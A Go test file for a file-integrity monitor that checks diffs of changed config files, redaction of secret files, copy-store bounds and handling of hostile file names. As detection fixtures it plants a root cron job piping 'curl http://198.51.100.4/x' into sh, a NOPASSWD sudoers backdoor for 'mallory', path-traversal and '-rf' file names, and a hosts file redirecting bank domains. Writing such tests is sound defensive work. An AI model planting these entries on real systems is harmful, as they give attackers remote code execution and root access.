package integrity

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"io"
	"math/big"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/parryhq/parry/response"
)

const sshdConfig = `# sshd_config
Port 22
PermitRootLogin no
PubkeyAuthentication yes
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM yes
X11Forwarding no
PrintMotd no
Subsystem sftp /usr/lib/openssh/sftp-server
`

// diffMonitor is a monitor of dir whose integrity.diff selects everything
// under it, with a baseline recorded.
func diffMonitor(t *testing.T, dir, state string, rules ...Rule) (*Monitor, *collector) {
	t.Helper()
	cfg := testConfig(dir, rules...)
	cfg.Diff = []string{dir + "/**"}
	col := &collector{}
	m, err := NewMonitor(cfg, Options{StateDir: state, Report: col.report})
	must(t, err)
	return m, col
}

func changedLines(diff []string) []string {
	var out []string
	for _, l := range diff {
		if strings.HasPrefix(l, "-") || strings.HasPrefix(l, "+") {
			out = append(out, l)
		}
	}
	return out
}

// An edited sshd_config shows exactly the changed lines, in the open
// finding, in the reported one and in the status.
func TestDiffShowsChangedLines(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "etc/ssh/sshd_config")
	writeFile(t, p, sshdConfig)
	m, col := diffMonitor(t, dir, t.TempDir())
	ctx := context.Background()
	_, err := m.Baseline(ctx)
	must(t, err)
	writeFile(t, p, strings.Replace(sshdConfig, "PasswordAuthentication no", "PasswordAuthentication yes", 1))
	fs, err := m.Check(ctx)
	must(t, err)
	f := findingFor(fs, p)
	if f == nil {
		t.Fatalf("no finding for %s: %v", p, fs)
	}
	want := []string{"-PasswordAuthentication no", "+PasswordAuthentication yes"}
	if got := changedLines(f.Diff); !slices.Equal(got, want) {
		t.Fatalf("diff %q, want changed lines %q", f.Diff, want)
	}
	if f.Diff[0] != "@@ -2,7 +2,7 @@" || len(f.Diff) != 9 {
		t.Errorf("hunk: %q", f.Diff)
	}
	rep := findingFor(col.snapshot(), p)
	if rep == nil || !slices.Equal(changedLines(rep.Diff), want) {
		t.Fatalf("reported finding: %+v", rep)
	}
	if sig := f.Signal(); !strings.Contains(sig.Attrs["diff"], "+PasswordAuthentication yes") {
		t.Errorf("signal attrs: %v", sig.Attrs)
	}
	st, err := m.Status(ctx)
	must(t, err)
	if st.Copies != 1 || st.CopiesBytes == 0 {
		t.Errorf("status copies %d bytes %d", st.Copies, st.CopiesBytes)
	}
	// Accepting takes the new content: the next edit diffs against it.
	_, err = m.Accept(ctx, []string{p})
	must(t, err)
	writeFile(t, p, strings.Replace(sshdConfig, "PasswordAuthentication no", "PasswordAuthentication maybe", 1))
	fs, err = m.Check(ctx)
	must(t, err)
	if f := findingFor(fs, p); f == nil || !slices.Equal(changedLines(f.Diff), []string{"-PasswordAuthentication yes", "+PasswordAuthentication maybe"}) {
		t.Fatalf("after accept: %+v", f)
	}
}

// New and removed files under the selection show their content, added or
// removed; binary and oversized content gets a note instead.
func TestDiffAddedRemovedBinaryLarge(t *testing.T) {
	dir := t.TempDir()
	gone := filepath.Join(dir, "etc/cron.d/old")
	bin := filepath.Join(dir, "bin.dat")
	big := filepath.Join(dir, "big.conf")
	many := filepath.Join(dir, "many.conf")
	writeFile(t, gone, "* * * * * root /bin/true\n")
	writeFile(t, bin, "text\n")
	writeFile(t, big, "small\n")
	var lines strings.Builder
	for i := range 3000 {
		fmt.Fprintf(&lines, "line %d\n", i)
	}
	writeFile(t, many, lines.String())
	m, _ := diffMonitor(t, dir, t.TempDir())
	ctx := context.Background()
	_, err := m.Baseline(ctx)
	must(t, err)

	added := filepath.Join(dir, "etc/cron.d/evil")
	writeFile(t, added, "* * * * * root curl http://198.51.100.4/x | sh\n")
	must(t, os.Remove(gone))
	writeFile(t, bin, "te\x00xt\n")
	writeFile(t, big, strings.Repeat("y\n", MaxCopySize))
	var other strings.Builder
	for i := range 3000 {
		fmt.Fprintf(&other, "other %d\n", i)
	}
	writeFile(t, many, other.String())
	fs, err := m.Check(ctx)
	must(t, err)
	for _, c := range []struct {
		path, note string
		diff       []string
	}{
		{added, "", []string{"@@ -0,0 +1 @@", "+* * * * * root curl http://198.51.100.4/x | sh"}},
		{gone, "", []string{"@@ -1 +0,0 @@", "-* * * * * root /bin/true"}},
		{bin, NoteBinary, nil},
		{big, "content changed; no diff: current content larger than 256 KiB", nil},
		{many, "diff too large (old 3000 lines, new 3000 lines)", nil},
	} {
		f := findingFor(fs, c.path)
		if f == nil {
			t.Errorf("%s: no finding", c.path)
			continue
		}
		if f.ContentNote != c.note || !slices.Equal(f.Diff, c.diff) {
			t.Errorf("%s: note %q diff %q, want %q %q", filepath.Base(c.path), f.ContentNote, f.Diff, c.note, c.diff)
		}
	}
}

// The reported finding carries at most ReportDiffLines lines; the open
// one (status) the whole diff.
func TestDiffCutInReports(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "hosts")
	writeFile(t, p, "127.0.0.1 localhost\n")
	m, col := diffMonitor(t, dir, t.TempDir())
	ctx := context.Background()
	_, err := m.Baseline(ctx)
	must(t, err)
	var b strings.Builder
	for i := range 100 {
		fmt.Fprintf(&b, "203.0.113.%d bank%d.example\n", i, i)
	}
	writeFile(t, p, b.String())
	fs, err := m.Check(ctx)
	must(t, err)
	f, rep := findingFor(fs, p), findingFor(col.snapshot(), p)
	if f == nil || rep == nil {
		t.Fatal("no finding")
	}
	if len(f.Diff) != 102 || f.DiffOmitted != 0 {
		t.Errorf("open finding: %d lines, %d omitted", len(f.Diff), f.DiffOmitted)
	}
	if len(rep.Diff) > ReportDiffLines || rep.DiffOmitted != len(f.Diff)-len(rep.Diff) {
		t.Errorf("reported: %d lines, %d omitted", len(rep.Diff), rep.DiffOmitted)
	}
	if n := len(strings.Join(rep.Diff, "\n")); n > ReportDiffBytes {
		t.Errorf("reported diff %d bytes", n)
	}
	for _, x := range []*Finding{f, rep} {
		if err := response.ValidateSignal(x.Signal()); err != nil {
			t.Errorf("signal of a finding with a diff: %v", err)
		}
	}
}

// A secret file's content appears nowhere: not in the finding, not in what
// is reported, not in the status JSON, not in the copy store.
func TestDiffSecretNeverShown(t *testing.T) {
	dir := t.TempDir()
	state := t.TempDir()
	secrets := map[string]string{
		"etc/shadow":              "root:$6$OLDSECRETHASH:19000:0:99999:7:::\n",
		"etc/gshadow":             "root:*OLDSECRET::\n",
		"app/.env":                "DB_PASSWORD=OLDSECRET\n",
		"ssl/server.key":          "-----BEGIN PRIVATE KEY-----\nOLDSECRET\n",
		"home/.ssh/id_ed25519":    "OLDSECRET private\n",
		"etc/custom/token.conf":   "token=OLDSECRET\n", // secret: true rule
		"etc/private/vault.conf":  "pass=OLDSECRET\n",  // deny world_readable rule
		"etc/ssh/ssh_host_ed_key": "OLDSECRET host key\n",
	}
	for p, c := range secrets {
		writeFile(t, filepath.Join(dir, p), c)
	}
	public := filepath.Join(dir, "home/.ssh/id_ed25519.pub")
	writeFile(t, public, "ssh-ed25519 AAAA old\n")
	rules := []Rule{{Path: dir + "/etc/custom/*", Secret: true}, {Path: dir + "/etc/private/*", Deny: []string{"world_readable"}}}
	m, col := diffMonitor(t, dir, state, rules...)
	ctx := context.Background()
	_, err := m.Baseline(ctx)
	must(t, err)
	for p, c := range secrets {
		writeFile(t, filepath.Join(dir, p), strings.ReplaceAll(c, "OLDSECRET", "NEWSECRET")+"more NEWSECRET\n")
	}
	writeFile(t, public, "ssh-ed25519 AAAA new\n")
	fs, err := m.Check(ctx)
	must(t, err)
	for p := range secrets {
		f := findingFor(fs, filepath.Join(dir, p))
		if f == nil || f.ContentNote != NoteSecret || f.Diff != nil {
			t.Errorf("%s: %+v", p, f)
		}
	}
	if f := findingFor(fs, public); f == nil || len(f.Diff) == 0 {
		t.Errorf("public key: no diff: %+v", f)
	}
	st, err := m.Status(ctx)
	must(t, err)
	var sigs []any
	for _, f := range col.snapshot() {
		sigs = append(sigs, f.Signal())
	}
	all, err := json.Marshal([]any{fs, col.snapshot(), st, sigs})
	must(t, err)
	if bytes.Contains(all, []byte("SECRET")) {
		t.Errorf("a secret reached a finding, a report or the status: %s", all)
	}
	if st.Copies != 1 { // only the .pub
		t.Errorf("copies kept: %d", st.Copies)
	}
	// Nothing under the state directory holds it, compressed or not.
	must(t, filepath.Walk(state, func(p string, info os.FileInfo, err error) error {
		if err != nil || info.IsDir() {
			return err
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		if zr, err := gzip.NewReader(bytes.NewReader(data)); err == nil {
			if plain, err := io.ReadAll(zr); err == nil {
				data = append(data, plain...)
			}
		}
		if bytes.Contains(data, []byte("SECRET")) {
			t.Errorf("%s holds a secret", p)
		}
		return nil
	}))
}

// The copy store stays under its bound by dropping the oldest copies and
// counting them; each file larger than MaxCopySize is not kept.
func TestCopyStoreBounds(t *testing.T) {
	dir := t.TempDir()
	for i := range 8 {
		writeFile(t, filepath.Join(dir, fmt.Sprintf("f%d", i)), randomText(t, 100<<10))
	}
	writeFile(t, filepath.Join(dir, "huge"), strings.Repeat("z", MaxCopySize+1))
	m, _ := diffMonitor(t, dir, t.TempDir())
	m.diff.store.limit = 450 << 10
	ctx := context.Background()
	_, err := m.Baseline(ctx)
	must(t, err)
	st, err := m.Status(ctx)
	must(t, err)
	if st.CopiesBytes > 450<<10 || st.CopiesDropped == 0 || st.Copies+int(st.CopiesDropped) != 8 {
		t.Fatalf("copies %d, %d bytes, %d dropped", st.Copies, st.CopiesBytes, st.CopiesDropped)
	}
	if _, ok := m.diff.store.index[filepath.Join(dir, "huge")]; ok {
		t.Error("kept a copy over MaxCopySize")
	}
	var onDisk int64
	ents, err := os.ReadDir(filepath.Join(m.opt.StateDir, CopiesDir))
	must(t, err)
	for _, e := range ents {
		info, err := e.Info()
		must(t, err)
		onDisk += info.Size()
	}
	if onDisk != st.CopiesBytes || len(ents) != st.Copies {
		t.Errorf("on disk %d files %d bytes, status %d files %d bytes", len(ents), onDisk, st.Copies, st.CopiesBytes)
	}
}

func randomText(t *testing.T, n int) string {
	b := make([]byte, n)
	_, err := rand.Read(b)
	must(t, err)
	for i := range b {
		b[i] = 'a' + b[i]%26
		if i%60 == 59 {
			b[i] = '\n'
		}
	}
	return string(b)
}

// A restarted daemon (a new Monitor on the same state directory) diffs
// against the copies taken before.
func TestCopyStoreSurvivesRestart(t *testing.T) {
	dir, state := t.TempDir(), t.TempDir()
	p := filepath.Join(dir, "sudoers")
	writeFile(t, p, "root ALL=(ALL:ALL) ALL\n")
	m, _ := diffMonitor(t, dir, state)
	ctx := context.Background()
	res, err := m.Baseline(ctx)
	must(t, err)
	writeFile(t, p, "root ALL=(ALL:ALL) ALL\nmallory ALL=(ALL) NOPASSWD: ALL\n")
	m2, _ := diffMonitor(t, dir, state)
	m2.opt.WantDigest = res.Digest
	_, err = m2.Load()
	must(t, err)
	fs, err := m2.Check(ctx)
	must(t, err)
	if f := findingFor(fs, p); f == nil || !slices.Equal(changedLines(f.Diff), []string{"+mallory ALL=(ALL) NOPASSWD: ALL"}) {
		t.Fatalf("after restart: %+v", f)
	}
}

// File names in the copy store are hashes: hostile names (newlines, dots,
// dashes, long names) are kept under the store directory, nowhere else; a
// copy planted under another path's name is not used; a symlink in place
// of the store directory is refused.
func TestCopyStoreHostileNames(t *testing.T) {
	dir, state := t.TempDir(), t.TempDir()
	names := []string{"...", "-rf", "x\n..\n..\netc", "..\\..\\x", strings.Repeat("n", 255), "%2e%2e%2fetc"}
	for _, n := range names {
		writeFile(t, filepath.Join(dir, n), "v1 "+n+"\n")
	}
	m, _ := diffMonitor(t, dir, state)
	ctx := context.Background()
	_, err := m.Baseline(ctx)
	must(t, err)
	store := filepath.Join(state, CopiesDir)
	ents, err := os.ReadDir(store)
	must(t, err)
	hexName := regexp.MustCompile(`^[0-9a-f]{64}\.gz$`)
	for _, e := range ents {
		info, _ := e.Info()
		if !hexName.MatchString(e.Name()) || info.Mode().Perm() != 0o600 {
			t.Errorf("store file %q mode %v", e.Name(), info.Mode())
		}
	}
	if info, err := os.Stat(store); err != nil || info.Mode().Perm() != 0o700 {
		t.Errorf("store dir: %v %v", info.Mode(), err)
	}
	if len(ents) != len(names) {
		t.Errorf("%d copies for %d files", len(ents), len(names))
	}
	top, err := os.ReadDir(state)
	must(t, err)
	for _, e := range top {
		if e.Name() != CopiesDir && !strings.HasPrefix(e.Name(), BaselineFile) {
			t.Errorf("unexpected file in state dir: %q", e.Name())
		}
	}
	// Plant the copy of one path under the name of another: a restarted
	// monitor drops it instead of diffing against it.
	a, b := filepath.Join(dir, names[0]), filepath.Join(dir, names[1])
	must(t, os.Rename(filepath.Join(store, copyName(a)), filepath.Join(store, copyName(b))))
	m2, _ := diffMonitor(t, dir, state)
	_, err = m2.Load()
	must(t, err)
	writeFile(t, b, "v2\n")
	fs, err := m2.Check(ctx)
	must(t, err)
	if f := findingFor(fs, b); f == nil || f.Diff != nil || !strings.Contains(f.ContentNote, "no copy") {
		t.Errorf("planted copy used: %+v", f)
	}
	// A symlink where the store directory belongs is refused, not followed.
	state2, elsewhere := t.TempDir(), t.TempDir()
	must(t, os.Symlink(elsewhere, filepath.Join(state2, CopiesDir)))
	m3, _ := diffMonitor(t, dir, state2)
	_, err = m3.Baseline(ctx)
	must(t, err)
	if ents, _ := os.ReadDir(elsewhere); len(ents) != 0 {
		t.Errorf("copies written through a symlink: %v", ents)
	}
}

// myers finds a shortest edit script: it rebuilds b from a, and its length
// equals the LCS bound, on random line sequences.
func TestMyersIsMinimal(t *testing.T) {
	rnd := func(n int64) int {
		v, _ := rand.Int(rand.Reader, big.NewInt(n))
		return int(v.Int64())
	}
	for range 300 {
		a, b := make([]string, rnd(30)), make([]string, rnd(30))
		for i := range a {
			a[i] = string(rune('a' + rnd(4)))
		}
		for i := range b {
			b[i] = string(rune('a' + rnd(4)))
		}
		es, err := diffEdits(a, b)
		must(t, err)
		var got []string
		edits, ai := 0, 0
		for _, e := range es {
			switch e.kind {
			case ' ':
				if e.i != ai {
					t.Fatalf("context out of order")
				}
				got = append(got, a[e.i])
				ai++
			case '-':
				ai++
				edits++
			case '+':
				got = append(got, b[e.i])
				edits++
			}
		}
		if !slices.Equal(got, b) && !(len(got) == 0 && len(b) == 0) {
			t.Fatalf("a %q b %q: script gives %q", a, b, got)
		}
		if want := len(a) + len(b) - 2*lcs(a, b); edits != want {
			t.Fatalf("a %q b %q: %d edits, want %d", a, b, edits, want)
		}
	}
}

func lcs(a, b []string) int {
	dp := make([][]int, len(a)+1)
	for i := range dp {
		dp[i] = make([]int, len(b)+1)
	}
	for i := len(a) - 1; i >= 0; i-- {
		for j := len(b) - 1; j >= 0; j-- {
			if a[i] == b[j] {
				dp[i][j] = dp[i+1][j+1] + 1
			} else {
				dp[i][j] = max(dp[i+1][j], dp[i][j+1])
			}
		}
	}
	return dp[0][0]
}

// Every default diff glob lies inside the default selection (a glob
// outside it would never see a finding) and none selects a secret.
func TestDefaultDiffInsideDefaultPaths(t *testing.T) {
	sel := NewSelection(Defaults())
	sec := newSecrets(DefaultRules())
	for _, g := range DefaultDiff() {
		p := strings.NewReplacer("**", "x", "*", "x").Replace(g)
		if !sel.Selected(p) {
			t.Errorf("%s (e.g. %s) is outside the default paths", g, p)
		}
		if sec.secret(p) {
			t.Errorf("%s (e.g. %s) is a secret", g, p)
		}
	}
	for _, p := range []string{"/etc/shadow", "/etc/ssh/ssh_host_ed25519_key", "/root/.ssh/id_rsa", "/srv/app/.env", "/etc/parry/parry.yaml"} {
		if !sec.secret(p) {
			t.Errorf("%s is not a secret", p)
		}
	}
	if sec.secret("/root/.ssh/id_rsa.pub") || sec.secret("/etc/ssh/sshd_config") {
		t.Error("a public file is a secret")
	}
}

// A copy kept before a rule marked its file secret is deleted when the
// store is next loaded, not used for a diff.
func TestCopyOfNewSecretDeleted(t *testing.T) {
	dir, state := t.TempDir(), t.TempDir()
	p := filepath.Join(dir, "app.conf")
	writeFile(t, p, "token=OLDSECRET\n")
	m, _ := diffMonitor(t, dir, state)
	res, err := m.Baseline(context.Background())
	must(t, err)
	if _, err := os.Stat(filepath.Join(state, CopiesDir, copyName(p))); err != nil {
		t.Fatal(err)
	}
	m2, _ := diffMonitor(t, dir, state, Rule{Path: p, Secret: true})
	m2.opt.WantDigest = res.Digest
	_, err = m2.Load()
	must(t, err)
	writeFile(t, p, "token=NEWSECRET\n")
	fs, err := m2.Check(context.Background())
	must(t, err)
	if f := findingFor(fs, p); f == nil || f.ContentNote != NoteSecret || f.Diff != nil {
		t.Fatalf("finding %+v", f)
	}
	st, err := m2.Status(context.Background())
	must(t, err)
	if _, err := os.Stat(filepath.Join(state, CopiesDir, copyName(p))); err == nil || st.Copies != 0 {
		t.Errorf("copy of a secret kept (%d copies)", st.Copies)
	}
}

// Open findings keep at most MaxOpenDiffBytes of diff text in all: past
// it a finding keeps only what a report carries; one finding at most
// MaxDiffBytes.
func TestOpenDiffBudget(t *testing.T) {
	dir := t.TempDir()
	const files = 12
	for i := range files {
		writeFile(t, filepath.Join(dir, fmt.Sprintf("f%02d", i)), "")
	}
	m, _ := diffMonitor(t, dir, t.TempDir())
	m.diffBudget = 5 * MaxDiffBytes
	ctx := context.Background()
	_, err := m.Baseline(ctx)
	must(t, err)
	for i := range files {
		// 900 lines of 250 bytes: each diff is cut at MaxDiffBytes.
		var b strings.Builder
		for j := range 900 {
			fmt.Fprintf(&b, "%s %03d\n", strings.Repeat("x", 245), j)
		}
		writeFile(t, filepath.Join(dir, fmt.Sprintf("f%02d", i)), b.String())
	}
	fs, err := m.Check(ctx)
	must(t, err)
	total, full, cut := 0, 0, 0
	for _, f := range fs {
		size := diffSize([]Finding{f})
		total += size
		if size > MaxDiffBytes {
			t.Errorf("%s keeps %d bytes of diff", f.Path, size)
		}
		if f.DiffOmitted == 0 {
			t.Errorf("%s: nothing omitted", f.Path)
		}
		if len(f.Diff) > ReportDiffLines {
			full++
		} else {
			cut++
		}
	}
	if total > m.diffBudget+cut*ReportDiffBytes || m.diffBytes != total || full != 5 || cut != files-5 {
		t.Errorf("open diff text %d bytes (accounted %d), bound %d; %d full, %d cut", total, m.diffBytes, m.diffBudget, full, cut)
	}
	t.Logf("%d findings with a full diff, %d cut to the report's", full, cut)
	_, err = m.Accept(ctx, []string{dir})
	must(t, err)
	if m.diffBytes != 0 {
		t.Errorf("after accept: %d bytes accounted", m.diffBytes)
	}
}

func TestLiteralDir(t *testing.T) {
	for g, want := range map[string]string{
		"/etc/ssh/sshd_config.d/*": "/etc/ssh/sshd_config.d/", "/etc/cron*/**": "/etc/", "/etc/hosts": "/etc/",
		"/**": "/", "/a/b[c]/d": "/a/", "/x?/y": "/",
	} {
		if got := literalDir(g); got != want {
			t.Errorf("literalDir(%q) = %q, want %q", g, got, want)
		}
	}
}

// The diff selection costs the baseline little: checking 50,000 paths
// outside it against the default globs.
func BenchmarkDiffSelected(b *testing.B) {
	d := newDiffer(Defaults(), b.TempDir(), func([]byte) [32]byte { return [32]byte{} })
	paths := make([]string, 50000)
	for i := range paths {
		dir := []string{"/usr/bin", "/usr/sbin", "/etc/ssl/certs", "/usr/lib/systemd/system"}[i%4]
		paths[i] = fmt.Sprintf("%s/file-%d", dir, i)
	}
	b.ResetTimer()
	for b.Loop() {
		for _, p := range paths {
			d.selected(p)
		}
	}
}
